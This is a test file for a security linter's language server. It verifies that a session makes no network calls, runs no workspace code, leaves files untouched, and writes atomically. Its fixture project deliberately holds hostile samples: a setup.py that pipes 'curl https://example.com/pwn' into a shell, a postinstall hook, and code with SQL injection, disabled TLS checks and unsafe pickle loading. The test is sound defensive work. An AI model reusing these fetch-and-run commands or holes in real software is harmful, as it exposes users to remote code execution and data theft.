// Safety guarantees, tested:
// - no network, no processes, no code loaded from the workspace: the server runs with a preload
//   (test/support/deny-network.cjs) that makes every such call throw and records it, through a
//   session using every feature; the record must stay empty and every answer must be normal;
// - no file is written without an explicit action: the workspace tree (paths, sizes, mtimes) is
//   the same before and after that session;
// - writes are atomic: each writer goes through a temporary file in the same folder and a
//   rename, so the target is never seen half-written (a failed rename leaves the old file and no
//   temporary file), and a CLI `--fix` killed at random moments leaves every file either as it
//   was or completely fixed.

import * as assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { CodeAction, Diagnostic } from 'vscode-languageserver-protocol';
import { saveReviews } from '../server/src/checklist/reviews';
import { writeAtomic } from '../server/src/cli/check';
import { ensureBuilt, fileUri, ROOT, TestClient } from './support/lsp-client';

const PRELOAD = path.join(__dirname, 'support', 'deny-network.cjs');
const CLI = path.join(ROOT, 'server', 'out', 'cli.js');

const FILES: Record<string, string> = {
  'app/views.py': 'import random\nimport sqlite3\nimport requests\n\n\ndef reset(conn, email):\n    reset_code = random.randint(100000, 999999)\n    conn.execute(f"UPDATE u SET c = {reset_code} WHERE e = \'{email}\'")\n    requests.get("https://example.com/hook", verify=False)\n    return reset_code\n',
  'app/settings.py': 'DEBUG = True\nSECRET_KEY = "django-insecure-0123456789abcdefghijklmnopqrstuvwxyz"\nALLOWED_HOSTS = ["*"]\n',
  // Files that would run code if anything imported or executed them.
  'setup.py': 'import os\nos.system("curl https://example.com/pwn | sh")\n',
  'conftest.py': 'import subprocess\nsubprocess.run("touch /tmp/parapet-pwned", shell=True)\n',
  'tools/hook.js': 'require("child_process").execSync("touch /tmp/parapet-pwned-js");\n',
  'package.json': '{ "name": "x", "scripts": { "postinstall": "node tools/hook.js" } }\n',
  'pyproject.toml': '[project]\nname = "x"\n\n[tool.parapet]\nignore = ["SEC101"]\n',
  '.env': 'SECRET=abc\n',
  'notebook.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: ['import pickle\n', 'pickle.loads(b)\n'], metadata: {}, outputs: [] }], metadata: {}, nbformat: 4, nbformat_minor: 5 }),
};

function makeProject(root: string): void {
  for (const [rel, text] of Object.entries(FILES)) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text);
  }
}

/** Every path under `root` with its size and modification time. */
function snapshot(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string): void => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      const st = fs.lstatSync(p);
      out[path.relative(root, p)] = e.isDirectory() ? 'dir' : `${st.size} ${st.mtimeMs}`;
      if (e.isDirectory()) walk(p);
    }
  };
  walk(root);
  return out;
}

function isAction(a: unknown): a is CodeAction {
  return typeof a === 'object' && a !== null && 'title' in a && !('command' in a && typeof (a as { command: unknown }).command === 'string');
}

describe('safety', function () {
  this.timeout(90_000);
  let tmp: string;

  before(() => {
    ensureBuilt();
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'parapet-safety-'));
  });
  after(() => fs.rmSync(tmp, { recursive: true, force: true }));

  it('the deny preload really blocks and records (sanity check of the test itself)', () => {
    const log = path.join(tmp, 'probe.log');
    const r = spawnSync(process.execPath, ['--require', PRELOAD, '-e', "try { require('node:net').connect(80, 'example.com') } catch {} fetch('http://example.com').catch(() => {})"], {
      env: { ...process.env, PARAPET_DENY_LOG: log },
      encoding: 'utf8',
    });
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(fs.readFileSync(log, 'utf8').split('\n').filter((l) => /^\S/.test(l)), ['net.connect', 'fetch']);
  });

  it('a session with every feature makes no network call, starts no process, loads no workspace code and writes nothing', async () => {
    const root = path.join(tmp, 'project');
    makeProject(root);
    const log = path.join(tmp, 'deny.log');
    const before = snapshot(root);
    const client = new TestClient({
      workspace: root,
      nodeArgs: ['--require', PRELOAD],
      env: { PARAPET_DENY_LOG: log, PARAPET_DENY_WORKSPACE: root },
    });
    try {
      await client.initialize();
      const uri = fileUri(path.join(root, 'app', 'views.py'));
      await client.open(uri, FILES['app/views.py']!);
      const ds: Diagnostic[] = await client.diagnostics(uri);
      assert.deepEqual(ds.map((d) => d.code).sort(), ['SEC113', 'SEC311', 'SEC501', 'SEC608']);
      // Code actions (quick fixes, ignore, docs) and the fix-all source action.
      for (const d of ds) {
        const actions = await client.codeActions(uri, d.range, [d]);
        assert.ok(actions.some(isAction), `${d.code} has actions`);
      }
      const all = await client.codeActions(uri, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, [], ['source.fixAll.parapet']);
      assert.equal(all.length, 1);
      // Hover on a finding and the fix-all command (its edit goes to the editor, not to disk).
      assert.ok(await client.hover(uri, FILES['app/views.py']!.indexOf('random.randint')));
      await client.execute('parapet.server.applyAutoFixes', [{ uri, version: 1 }]);
      assert.equal(client.applied.length, 1, 'fix-all sent one edit to the editor');
      // Edits, a save, a settings change, a watched-file change.
      await client.edit(uri, 0, 0, '# edited\n');
      await client.diagnostics(uri);
      await client.save(uri);
      await client.changeSettings({ minConfidence: 'medium' });
      await client.conn.sendNotification('workspace/didChangeWatchedFiles', { changes: [{ uri: fileUri(path.join(root, 'pyproject.toml')), type: 2 }] });
      // The checklist: a full workspace scan, findings by OWASP category, rule documentation.
      let report: { scan: { state: string }; report: unknown }[] = [];
      for (let i = 0; i < 200; i++) {
        report = await client.conn.sendRequest('parapet/checklist', {});
        if (report.every((r) => r.scan.state === 'done')) break;
        await new Promise((r) => setTimeout(r, 100));
      }
      assert.equal(report[0]!.scan.state, 'done');
      assert.ok(report[0]!.report);
      const groups = await client.conn.sendRequest<unknown[]>('parapet/findingsByOwasp');
      assert.ok(groups.length > 0);
      assert.ok(await client.conn.sendRequest('parapet/ruleDocumentation', { rule: 'SEC311' }));
      await client.conn.sendRequest('parapet/rules');
      await client.close(uri);
    } finally {
      await client.stop();
    }
    const attempts = fs.existsSync(log) ? fs.readFileSync(log, 'utf8') : '';
    assert.equal(attempts, '', `denied calls were attempted:\n${attempts}`);
    assert.doesNotMatch(client.stderr, /denied in this test/);
    assert.ok(!fs.existsSync('/tmp/parapet-pwned') && !fs.existsSync('/tmp/parapet-pwned-js'), 'workspace code did not run');
    assert.deepEqual(snapshot(root), before, 'no file created, changed or deleted in the workspace');
  });

  it('SECURITY.md names only tests and code that exist, and the README and manifest agree with it', () => {
    const doc = fs.readFileSync(path.join(ROOT, 'SECURITY.md'), 'utf8');
    const named = [...new Set(doc.match(/`((?:test|server|client)\/[\w./-]+\.(?:ts|cjs|json))`/g) ?? [])].map((m) => m.slice(1, -1));
    assert.ok(named.length >= 10, named.join(', '));
    for (const file of named) assert.ok(fs.existsSync(path.join(ROOT, file)), `SECURITY.md names ${file}, which does not exist`);
    assert.match(fs.readFileSync(path.join(ROOT, 'README.md'), 'utf8'), /## Security and privacy[\s\S]*\(SECURITY\.md\)/);
    const manifest = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8')) as { capabilities: { untrustedWorkspaces: { supported: unknown } } };
    assert.equal(manifest.capabilities.untrustedWorkspaces.supported, true);
  });

  describe('atomic writes', () => {
    it('CLI writes (--fix, --baseline, checklist --output) replace the file by a rename, never write into it', () => {
      const dir = fs.mkdtempSync(path.join(tmp, 'atomic-'));
      const target = path.join(dir, 'app.py');
      fs.writeFileSync(target, 'old\n', { mode: 0o640 });
      // A hard link shares the file's contents: writing in place would change it too, while a
      // new file renamed over the target leaves it alone.
      fs.linkSync(target, path.join(dir, 'witness'));
      writeAtomic(target, 'new\n');
      assert.equal(fs.readFileSync(target, 'utf8'), 'new\n');
      assert.equal(fs.readFileSync(path.join(dir, 'witness'), 'utf8'), 'old\n', 'the old file was replaced, not overwritten');
      assert.equal(fs.statSync(target).mode & 0o777, 0o640, 'permissions kept');
      assert.deepEqual(fs.readdirSync(dir).sort(), ['app.py', 'witness'], 'no temporary file left');
    });

    it('checklist reviews replace .parapet/checklist.json by a rename', () => {
      const dir = fs.mkdtempSync(path.join(tmp, 'atomic-'));
      const review = { version: 1 as const, items: { x: { status: 'reviewed' as const, reason: 'r', date: '2026-11-24' } } };
      saveReviews(dir, review);
      const file = path.join(dir, '.parapet', 'checklist.json');
      fs.linkSync(file, path.join(dir, 'witness'));
      saveReviews(dir, { version: 1, items: {} });
      assert.deepEqual(JSON.parse(fs.readFileSync(file, 'utf8')).items, {});
      assert.ok(JSON.parse(fs.readFileSync(path.join(dir, 'witness'), 'utf8')).items.x, 'the old file was replaced, not overwritten');
      assert.deepEqual(fs.readdirSync(path.join(dir, '.parapet')), ['checklist.json']);
    });

    it('a failed rename leaves the target as it was and no temporary file', () => {
      const dir = fs.mkdtempSync(path.join(tmp, 'atomic-'));
      // A directory where the file should go: the temporary file is written, the rename fails.
      const target = path.join(dir, 'app.py');
      fs.mkdirSync(target);
      assert.throws(() => writeAtomic(target, 'new\n'), /EISDIR|ENOTEMPTY|EEXIST|EPERM/);
      assert.ok(fs.statSync(target).isDirectory());
      assert.deepEqual(fs.readdirSync(dir), ['app.py']);
      fs.mkdirSync(path.join(dir, '.parapet', 'checklist.json'), { recursive: true });
      assert.throws(() => saveReviews(dir, { version: 1, items: {} }));
      assert.deepEqual(fs.readdirSync(path.join(dir, '.parapet')), ['checklist.json'], 'no temporary review file left');
    });

    it('`parapet check --fix` killed at random moments leaves each file as it was or completely fixed', async () => {
      const source = 'import random\nimport sqlite3\n\n\ndef f(conn, email):\n    token = random.randint(0, 9)\n    conn.execute(f"SELECT * FROM u WHERE e = \'{email}\'")\n    return token\n' + 'x = 1\n'.repeat(300);
      const N = 30;
      const make = (name: string): string => {
        const dir = path.join(tmp, name);
        for (let i = 0; i < N; i++) {
          fs.mkdirSync(path.join(dir, `pkg${i % 6}`), { recursive: true });
          fs.writeFileSync(path.join(dir, `pkg${i % 6}`, `m${i}.py`), source);
        }
        return dir;
      };
      const reference = make('fix-reference');
      const started = performance.now();
      const done = spawnSync(process.execPath, [CLI, 'check', '--fix', '--exit-zero', '.'], { cwd: reference, encoding: 'utf8' });
      assert.equal(done.status, 0, done.stderr);
      const full = performance.now() - started;
      const fixed = fs.readFileSync(path.join(reference, 'pkg0', 'm0.py'), 'utf8');
      assert.notEqual(fixed, source);
      let partialRuns = 0;
      for (const fraction of [0.5, 0.75, 0.92]) {
        const delay = Math.round(full * fraction);
        const dir = make(`fix-killed-${delay}`);
        const child = spawn(process.execPath, [CLI, 'check', '--fix', '--exit-zero', '.'], { cwd: dir, stdio: 'ignore' });
        await new Promise((r) => setTimeout(r, delay));
        const exited = new Promise((r) => (child.exitCode !== null ? r(null) : child.once('exit', r)));
        child.kill('SIGKILL');
        await exited;
        let changed = 0;
        for (let i = 0; i < N; i++) {
          const text = fs.readFileSync(path.join(dir, `pkg${i % 6}`, `m${i}.py`), 'utf8');
          assert.ok(text === source || text === fixed, `m${i}.py is neither the original nor the fixed file after a kill at ${delay} ms`);
          if (text === fixed) changed++;
        }
        if (changed > 0 && changed < N) partialRuns++;
        console.log(`      killed after ${delay} ms: ${changed}/${N} files fixed, the rest untouched`);
      }
      console.log(`      a full run took ${Math.round(full)} ms; ${partialRuns} of 3 kills landed mid-run`);
    });
  });
});
